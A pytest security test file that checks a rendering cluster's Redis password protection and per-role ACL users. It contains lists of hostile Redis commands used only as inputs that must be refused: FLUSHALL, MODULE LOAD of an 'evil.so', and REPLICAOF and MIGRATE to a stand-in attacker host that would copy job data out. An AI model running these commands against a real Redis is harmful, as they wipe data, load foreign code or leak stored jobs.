"""Redis is authenticated by default (issue 13, finding 1: "Redis has no password by default").

The attack: another local user, or anything on the compose network, talks to Redis and writes
jobs and task messages. Now the embedded Redis wants a random password that only its URL carries
(and serves a 0600 unix socket), and the deployment's Redis has one ACL user per role: each can
run a whole job (Redis refuses nothing) and is refused what its role does not need.
"""

from __future__ import annotations

import os
import secrets
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
import yaml

from common.errors import RenderError
from common.names import PRIORITIES, QUEUE_AUDIO, QUEUE_MERGE, QUEUE_ORCHESTRATOR, QUEUE_RENDER
from monitoring.exporter import RenderCollector, scrape_store
from orchestrator import keys, render_counters
from orchestrator.api import CloudRenderingAPI
from orchestrator.embedded_redis import EmbeddedRedis
from orchestrator.job_record import JobState
from orchestrator.local_workers import LocalWorkers
from tests.helpers import ROOT, colour_project, slow_project, subprocess_env
from tests.security.redis_servers import ROLES, START_SCRIPT, TEMPLATE, acl_server

pytestmark = pytest.mark.timeout(240)

# --- the embedded Redis ------------------------------------------------------------------------


def test_embedded_redis_refuses_anyone_without_its_password() -> None:
    with EmbeddedRedis() as server:
        # The URL it hands out works
        with redis.Redis.from_url(server.url) as owner:
            assert owner.ping()
        # Another local user who finds the port gets nothing: no command, no guessed password
        for password in (None, "", "redis", secrets.token_urlsafe(32)):
            with (
                pytest.raises(redis.AuthenticationError),
                redis.Redis(port=server.port, password=password or None) as intruder,
            ):
                intruder.set("cr:job:evil", "x")
        # Nor through the unix socket, which only its owner may open anyway (0600 in a 0700 dir)
        sock = server.socket_path
        assert sock is not None and stat.S_IMODE(sock.stat().st_mode) == 0o600
        assert server.directory is not None
        assert stat.S_IMODE(server.directory.stat().st_mode) == 0o700
        with pytest.raises(redis.AuthenticationError), redis.Redis(unix_socket_path=str(sock)) as c:
            c.ping()
        with redis.Redis(unix_socket_path=str(sock), password=server.password) as owner:
            assert owner.ping()


def test_the_password_is_never_on_a_command_line_and_changes_every_start() -> None:
    with EmbeddedRedis() as first, EmbeddedRedis() as second:
        assert first.password != second.password and len(first.password) >= 40
        for server in (first, second):
            # /proc/PID/cmdline is world-readable (ps); the password is in a 0600 file
            cmdline = Path(f"/proc/{server.pid}/cmdline").read_bytes()
            assert server.password.encode() not in cmdline
            assert server.directory is not None
            config = server.directory / "redis.conf"
            assert stat.S_IMODE(config.stat().st_mode) == 0o600
            assert f"requirepass {server.password}" in config.read_text()


def test_a_worker_that_cannot_start_shows_the_url_without_its_password(tmp_path: Path) -> None:
    password = secrets.token_urlsafe(16)
    workers = LocalWorkers(
        f"redis://:{password}@127.0.0.1:1/0",
        1,
        app="tests.orchestrator.no_such_module:app",
        env={"PYTHONPATH": str(ROOT)},
    )
    with pytest.raises(RenderError) as caught, workers:
        pass
    assert password not in str(caught.value)


# --- the deployment's ACL users ----------------------------------------------------------------

PASSWORDS = {role: f"{role}-{secrets.token_hex(8)}" for role in ROLES}
ADMIN_PASSWORD = secrets.token_hex(8)


@pytest.fixture(scope="module")
def acl_redis(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """The deployment's Redis with its ACL users; yields the port."""
    with acl_server(tmp_path_factory.mktemp("acl"), PASSWORDS, ADMIN_PASSWORD) as server:
        yield server.port


def url(port: int, role: str) -> str:
    """The broker URL of a role."""
    return f"redis://{role}:{PASSWORDS[role]}@127.0.0.1:{port}/0"


@pytest.fixture
def admin(acl_redis: int) -> Iterator[redis.Redis]:
    """A connection with every right (tests only), its ACL LOG reset."""
    with redis.Redis(
        port=acl_redis, username="admin", password=ADMIN_PASSWORD, decode_responses=True
    ) as client:
        client.execute_command("ACL", "LOG", "RESET")
        yield client


def denials(admin: redis.Redis) -> list[tuple[str, str, str]]:
    """What Redis refused since the log was reset: (user, reason, object)."""
    return sorted({(e["username"], e["reason"], e["object"]) for e in admin.acl_log(count=1000)})


def test_the_template_needs_every_password(tmp_path: Path) -> None:
    env = {
        "REDIS_ACL_DIR": str(tmp_path),
        "REDIS_CLIENT_PASSWORD": "a",
        "REDIS_ORCHESTRATOR_PASSWORD": "b",
    }
    done = subprocess.run(
        ["sh", str(START_SCRIPT), "true"], env={**os.environ, **env}, capture_output=True, text=True
    )
    assert done.returncode != 0 and "set REDIS_WORKER_PASSWORD" in done.stderr
    done = subprocess.run(
        ["sh", str(START_SCRIPT), "true"],
        env={**os.environ, **env, "REDIS_WORKER_PASSWORD": "two words"},
        capture_output=True,
        text=True,
    )
    assert done.returncode != 0 and "whitespace" in done.stderr


def test_nobody_gets_in_without_a_user(acl_redis: int) -> None:
    for password in (None, "", *PASSWORDS.values()):
        with (
            pytest.raises(redis.AuthenticationError),
            redis.Redis(port=acl_redis, password=password or None) as c,
        ):
            c.ping()
    with (
        pytest.raises(redis.AuthenticationError),
        redis.Redis(port=acl_redis, username="worker", password=PASSWORDS["client"]) as c,
    ):
        c.ping()


def test_each_role_runs_a_whole_job_and_redis_refuses_nothing(
    acl_redis: int, admin: redis.Redis, tmp_path: Path
) -> None:
    storage = f"file://{tmp_path / 'storage'}"
    # The workers' own configuration: their storage, and where the slow job's media may be read.
    env = {"CLOUDRENDER_STORAGE_URL": storage, "CLOUDRENDER_MEDIA_ROOTS": str(tmp_path)}
    orchestrator = subprocess.Popen(
        [sys.executable, "-m", "cli", "orchestrator"],
        env=subprocess_env({**env, "CLOUDRENDER_BROKER_URL": url(acl_redis, "orchestrator")}),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    queues = (QUEUE_RENDER, QUEUE_AUDIO, QUEUE_MERGE)
    worker = LocalWorkers(url(acl_redis, "worker"), 1, queues, {**env, "PYTHONPATH": str(ROOT)})
    try:
        with worker:
            client = CloudRenderingAPI(url(acl_redis, "client"), storage_url=storage)
            events: list[dict[str, Any]] = []
            job = client.submit_job(colour_project(1.0), output="out.mp4", local_delivery=False)
            following = client.on_progress_update(events.append, job_id=job)
            record = client.wait(job, timeout=120)
            following.stop()
            assert record.state is JobState.COMPLETED, record.error
            assert {e["event"] for e in events} >= {"completed"}
            client.download(job, str(tmp_path / "out.mp4"))
            client.estimate_cost(colour_project(1.0))
            assert client.get_cluster_status().slots >= 1
            client.get_billing(), client.get_metrics(), client.get_node_metrics(), client.paused()
            # Each node's Prometheus exporter reads the job store with the node's own user
            for role in ("worker", "orchestrator"):
                collector = RenderCollector(scrape_store(url(acl_redis, role)))
                up = [f for f in collector.collect() if f.name == "cloudrender_store_up"]
                assert up[0].samples[0].value == 1.0, role
            # Cancelling a running job revokes its queued chunks (control broadcast)
            slow = client.submit_job(
                slow_project(tmp_path, 4.0),
                output="slow.mp4",
                local_delivery=False,
                chunk_frames=10,
                base_dir=str(tmp_path),
            )
            _wait_for(lambda: _started(client.get_job_status(slow)), 60)
            assert client.cancel_job(slow).state is JobState.CANCELLED
            # The admin side: pause, resume and scale the pools (control commands)
            operator = CloudRenderingAPI(url(acl_redis, "orchestrator"), storage_url=storage)
            operator.pause_all()
            operator.resume_all()
            operator.scale_cluster(operator.get_cluster_status().slots)
            time.sleep(2.5)  # a few ticks of beat and the orchestrator
    finally:
        os.killpg(orchestrator.pid, signal.SIGTERM)
        orchestrator.wait(timeout=30)
    assert denials(admin) == []


def test_cloudrender_worker_starts_under_the_worker_user(
    acl_redis: int, admin: redis.Redis, tmp_path: Path
) -> None:
    """As docker-compose runs it: Celery's gossip asked for queues (celeryev.*) the worker
    user has no right to, and the worker exited at start."""
    env = {"CLOUDRENDER_STORAGE_URL": f"file://{tmp_path}", "CLOUDRENDER_BENCHMARK_ON_START": "0"}
    worker = subprocess.Popen(
        [sys.executable, "-m", "cli", "worker", "--concurrency", "1"],
        env=subprocess_env({**env, "CLOUDRENDER_BROKER_URL": url(acl_redis, "worker")}),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        _wait_for(lambda: worker.poll() is not None or admin.keys(keys.node("*")), 60)
        time.sleep(3)  # past Celery's own start: gossip and mingle come after the heartbeat
        assert worker.poll() is None, "the worker exited"
        assert admin.keys(keys.node("*")), "no heartbeat"
    finally:
        os.killpg(worker.pid, signal.SIGTERM)
        worker.wait(timeout=30)
        admin.delete(*admin.keys(keys.node("*")) or ["-"])
    assert denials(admin) == []


#: Our keys by what each role may do with them ("rw" read and write, "r" read only, "" nothing);
#: the orchestrator may do everything.
KEY_RIGHTS = {
    keys.job("j"): {"client": "rw", "worker": "rw"},
    keys.chunks("j"): {"client": "rw", "worker": "rw"},
    keys.pending("j"): {"client": "rw", "worker": "rw"},
    keys.cancel("j"): {"client": "rw", "worker": "rw"},
    keys.notes("j"): {"client": "rw", "worker": "rw"},
    keys.done("j"): {"client": "rw", "worker": "rw"},
    keys.failures("j"): {"client": "rw", "worker": "rw"},
    keys.ACTIVE: {"client": "rw", "worker": "rw"},
    keys.ALL: {"client": "rw", "worker": "rw"},
    keys.user_jobs("n"): {"client": "rw", "worker": "rw"},
    keys.QUEUED: {"client": "rw", "worker": "rw"},
    keys.LAST_DISPATCH: {"client": "rw", "worker": "rw"},
    keys.DISPATCH_LOCK: {"client": "r", "worker": "rw"},
    keys.THROUGHPUT: {"client": "r", "worker": "rw"},
    keys.BENCHMARKS: {"client": "r", "worker": "rw"},  # a worker records its node's benchmark
    keys.node("n"): {"client": "r", "worker": "rw"},
    keys.evict("n"): {"client": "r", "worker": "rw"},
    keys.BILLING: {"client": "r", "worker": "rw"},
    # operators set budgets (the orchestrator's user); clients check them on submit
    keys.BUDGETS: {"client": "r", "worker": "r"},
    # held by a submitting client while it checks the budgets and stores its job
    keys.BUDGET_LOCK: {"client": "rw", "worker": ""},
    # spend is recorded where chunks are charged (workers), read by clients and `budget show`
    keys.spend("n"): {"client": "r", "worker": "rw"},
    keys.spend_alerts("n"): {"client": "r", "worker": "rw"},
    keys.PAUSED: {"client": "r", "worker": "r"},
    # written once by the orchestrator; the owner its jobs' storage markers name
    keys.CLUSTER_ID: {"client": "r", "worker": "r"},
    keys.TICK_LOCK: {"client": "r", "worker": ""},
    keys.FAILOVER: {"client": "r", "worker": ""},  # the orchestrator's tick only
    keys.TICKS: {"client": "r", "worker": ""},
    keys.REDBEAT_PREFIX + "tick": {"client": "r", "worker": ""},
    keys.cache_lru("n"): {"client": "rw", "worker": "rw"},
    keys.cache_sizes("n"): {"client": "rw", "worker": "rw"},
    keys.cache_stats("n"): {"client": "rw", "worker": "rw"},
    keys.cache_pins("n"): {"client": "rw", "worker": "rw"},
    keys.cache_put("n", "j"): {"client": "rw", "worker": "rw"},
    # file -> content id memo: hashed by planners and workers; a client's could swap footage
    keys.media_id("n"): {"client": "r", "worker": "rw"},
    keys.drain("n"): {"client": "r", "worker": "r"},
    # scale_cluster (an operator's) asks a node for a pool size; the node removes it once reached
    keys.slots("n"): {"client": "r", "worker": "rw"},
    keys.ledger_node("j"): {"client": "r", "worker": "rw"},
    keys.LEDGER_NODES: {"client": "r", "worker": ""},
    keys.LEDGER_LIVE: {"client": "r", "worker": ""},
    keys.pool_state("n"): {"client": "r", "worker": ""},
    keys.AUTOSCALER: {"client": "r", "worker": "r"},  # every exporter serves the pool gauges
    keys.AUTOSCALE_LOCK: {"client": "r", "worker": ""},
    # every progress event is appended to its job's stream (a client's cancel too)
    keys.events("j"): {"client": "rw", "worker": "rw"},
    # each node counts what it did; clients count the jobs they cancel in the cluster's hash
    render_counters.counters_key("n"): {"client": "r", "worker": "rw"},
    render_counters.counters_key(render_counters.CLUSTER): {"client": "rw", "worker": "rw"},
}


def test_every_key_of_ours_has_its_rights() -> None:
    # A key added to keys.py must be added to KEY_RIGHTS, and so to users.acl.template.
    examples = {
        name: value.format(id="j", name="n")
        for name, value in vars(keys).items()
        if name.isupper()
        and isinstance(value, str)
        and value.startswith(keys.PREFIX)
        and name not in ("PREFIX", "PROGRESS")  # PROGRESS is a channel
    }
    missing = {
        name
        for name, example in examples.items()
        if not any(key == example or key.startswith(example) for key in KEY_RIGHTS)
    }
    assert missing == set()


@pytest.mark.parametrize("role", ROLES)
def test_every_role_follows_progress(admin: redis.Redis, role: str) -> None:
    assert _dryrun(admin, role, "PUBLISH", keys.PROGRESS, "{}") == "OK"
    assert _dryrun(admin, role, "SUBSCRIBE", keys.PROGRESS) == "OK"


@pytest.mark.parametrize("key", sorted(KEY_RIGHTS))
def test_roles_read_and_write_our_keys_as_their_jobs_need(admin: redis.Redis, key: str) -> None:
    for role in ROLES:
        rights = KEY_RIGHTS[key].get(role, "rw")  # the orchestrator: everything of ours
        assert (_dryrun(admin, role, "GET", key) == "OK") == ("r" in rights), role
        assert (_dryrun(admin, role, "SET", key, "1") == "OK") == ("w" in rights), role


def test_only_workers_and_the_orchestrator_consume_the_queues(admin: redis.Redis) -> None:
    for queue in (QUEUE_RENDER, QUEUE_AUDIO, QUEUE_MERGE, QUEUE_ORCHESTRATOR):
        for key in keys.queue_keys(queue, PRIORITIES).values():
            for role in ("worker", "orchestrator"):
                assert _dryrun(admin, role, "BRPOP", key, "1") == "OK"
                assert _dryrun(admin, role, "LPUSH", key, "m") == "OK"
            # A client sends plan_job to the orchestrator, and nothing to the render nodes
            assert _dryrun(admin, "client", "LLEN", key) == "OK"
            assert _dryrun(admin, "client", "BRPOP", key, "1") != "OK"
            sends = _dryrun(admin, "client", "LPUSH", key, "m") == "OK"
            assert sends == (queue == QUEUE_ORCHESTRATOR), key


REFUSED_TO_ALL = [
    ["FLUSHALL"],
    ["FLUSHDB"],
    ["CONFIG", "SET", "dir", "/tmp"],
    ["CONFIG", "GET", "requirepass"],
    ["KEYS", "*"],
    ["ACL", "LIST"],
    ["ACL", "SETUSER", "me", "on", "+@all"],
    ["SHUTDOWN"],
    ["DEBUG", "SLEEP", "0"],
    ["MONITOR"],
    ["MODULE", "LOAD", "/tmp/evil.so"],
    ["SCRIPT", "FLUSH"],
    ["FUNCTION", "FLUSH"],
    ["CLIENT", "KILL", "ID", "1"],
    ["REPLICAOF", "evil.example", "6379"],
    ["MIGRATE", "evil.example", "6379", "cr:jobs:all", "0", "1000"],
    ["SAVE"],
]


@pytest.mark.parametrize("role", ROLES)
def test_no_role_runs_admin_commands(acl_redis: int, role: str) -> None:
    with redis.Redis(port=acl_redis, username=role, password=PASSWORDS[role]) as c:
        assert [command for command in REFUSED_TO_ALL if not _refused(c, command)] == []


def test_a_client_cannot_forge_work_for_the_render_nodes(acl_redis: int) -> None:
    with redis.Redis(port=acl_redis, username="client", password=PASSWORDS["client"]) as c:
        forged = [
            ["LPUSH", QUEUE_RENDER, "{}"],  # a forged render_chunk message
            ["SET", keys.PAUSED, "1"],  # pausing the cluster is the orchestrator's
            ["SET", keys.node("fake"), "{}"],  # a heartbeat of a node that does not exist
            ["SET", keys.evict("node-a"), "1"],  # evicting a node
            ["DEL", keys.REDBEAT_PREFIX + "tick"],  # beat's schedule
            ["SADD", "_kombu.binding.render", "render\x06\x16\x06\x16orchestrator"],  # reroute
            ["EVAL", "return redis.call('SET', KEYS[1], '1')", "1", keys.PAUSED],  # via Lua
            ["EVAL", "return redis.call('FLUSHALL')", "0"],
            ["PUBLISH", "__keyspace@0__:cr:paused", "set"],
        ]
        assert [command for command in forged if not _refused(c, command)] == []
        assert c.llen(QUEUE_RENDER) == 0 and c.get(keys.PAUSED) is None


def _refused(client: redis.Redis, command: list[str]) -> bool:
    """True if Redis refused the command for want of permission (or as disabled)."""
    try:
        client.execute_command(*command)
    except redis.ResponseError as exc:
        text = str(exc)
        return "permission" in text or "can't run" in text or "not allowed" in text
    return False


def _dryrun(admin: redis.Redis, user: str, *command: str) -> str:
    try:
        return str(admin.execute_command("ACL", "DRYRUN", user, *command))
    except redis.ResponseError as exc:
        return str(exc)


def _started(record: Any) -> bool:
    assert not record.state.finished, record.error
    return bool(record.frames_done > 0)


def _wait_for(condition: Any, timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.1)


# --- docker-compose.yml ------------------------------------------------------------------------

COMPOSE = ROOT / "docker-compose.yml"
SERVICE_ROLES = {
    "orchestrator": "orchestrator",
    "worker": "worker",
    "worker-gpu": "worker",
    "flower": "orchestrator",
    "api": "orchestrator",
}


def test_compose_gives_each_service_its_user_and_bakes_in_no_password() -> None:
    compose = yaml.safe_load(COMPOSE.read_text())
    services = compose["services"]
    for name, role in SERVICE_ROLES.items():
        broker = services[name]["environment"]["CLOUDRENDER_BROKER_URL"]
        password = f"${{REDIS_{role.upper()}_PASSWORD:?"
        assert broker.startswith(f"redis://{role}:{password}"), (name, broker)
    redis_service = services["redis"]
    assert redis_service["command"][:2] == ["sh", "/usr/local/etc/redis/start.sh"]
    assert "./deploy/redis:/usr/local/etc/redis:ro" in redis_service["volumes"]
    for role in ROLES:
        variable = f"REDIS_{role.upper()}_PASSWORD"
        assert redis_service["environment"][variable].startswith(f"${{{variable}:?")
    users = [line.split()[1] for line in TEMPLATE.read_text().splitlines() if line[:5] == "user "]
    assert users == ["default", *ROLES]


@pytest.mark.skipif(
    shutil.which("docker-compose") is None and not os.environ.get("CI"),
    reason="no docker-compose (scripts/test.sh installs it; under CI a missing one fails)",
)
def test_compose_config_is_valid_only_with_the_passwords() -> None:
    env = {f"REDIS_{role.upper()}_PASSWORD": "x" for role in ROLES} | {"FLOWER_AUTH": "a:b"}
    command = ["docker-compose", "-f", str(COMPOSE), "config", "--quiet"]
    ok = subprocess.run(command, env={**os.environ, **env}, capture_output=True, text=True)
    assert ok.returncode == 0, ok.stderr
    env.pop("REDIS_WORKER_PASSWORD")
    refused = subprocess.run(command, env={**os.environ, **env}, capture_output=True, text=True)
    assert refused.returncode != 0 and "REDIS_WORKER_PASSWORD" in refused.stderr
